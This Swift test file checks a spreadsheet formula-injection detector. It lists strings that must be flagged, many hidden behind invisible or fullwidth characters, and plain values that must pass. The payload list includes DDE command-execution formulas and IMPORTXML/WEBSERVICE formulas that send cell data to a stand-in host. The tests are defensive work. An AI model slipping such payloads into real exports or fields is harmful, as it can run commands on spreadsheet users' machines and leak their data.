import Bytes
import Testing

/// Texts that a spreadsheet would run (OWASP, CWE-1236), plain and behind signs that show nothing.
private let payloads =
  [
    "=1+1", "=HYPERLINK(\"http://x.example\",\"Click\")", "=cmd|' /C calc'!A0", "=1+2\";=1+2", "=1+2'\" ;,=1+2",
    "=IMPORTXML(CONCAT(\"http://x.example?v=\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink\")",
    "=WEBSERVICE(\"http://x.example\")", "==1", "=", "= 1", "+1", "+1+cmd|' /C calc'!A0", "+49 30 123456", "+", "-",
    "--1", "-1+1", "-1-", "-(1)", "-2+3+cmd|' /C calc'!D2", "- 5", "-1e5", "-.5", "-1.2.3", "-a", "-1,2,3", "-5 EUR",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@", "@A1", "\t=1", "\tx", "\r=1", "\rx", "\n=1", "\n", "\0", "\0=1", "\0x",
    "＝1", "＋1", "－1", "＠A1", " =1", "   =1", " \t=1", " \0=1", "\u{A0}=1", "\u{202F}+1", "\u{FEFF}=1", "\u{200B}=1",
    "\u{200B}\u{200B}@x", "\u{200E}=1", "\u{202E}=1", "\u{2060}-1+2", "\u{2003}=1", "\u{3000}=1", "\u{AD}=1",
    " \u{200B} ＝1",
  ]

@Test(arguments: payloads) func `what a spreadsheet could run is seen`(_ text: String) {
  #expect(text.withByteView { $0.startsFormula })
}

@Test(arguments: [
  "", " ", "a", "0", "1+1", "12.50", "-12.50", "-5", "-0", " -7 ", "-1234567,89", "D-1042", "Müller", "é=1", "日本",
  "a=1", "'=1", "\"=1", "_", "~", ";=1", ",=1", "(5.00)", "{=1}", "*", "/", "#", "ＡＢＣ", "！", "−5", "€ 5", "x\t=1",
  "A\n=1", "\u{A0}", "\u{200B}", "％",
])
func `what it could not run is left alone`(_ text: String) {
  #expect(!text.withByteView { $0.startsFormula })
}

@Test func `no first byte and no pair of bytes reads beyond its end`() {
  for first in UInt8(0)...255 {
    for second in UInt8(0)...255 {
      let pair = [first, second].withByteView { $0.startsFormula }
      if first == UInt8(ascii: "=") || first == UInt8(ascii: "@") || first == UInt8(ascii: "+") { #expect(pair) }
    }
  }
}
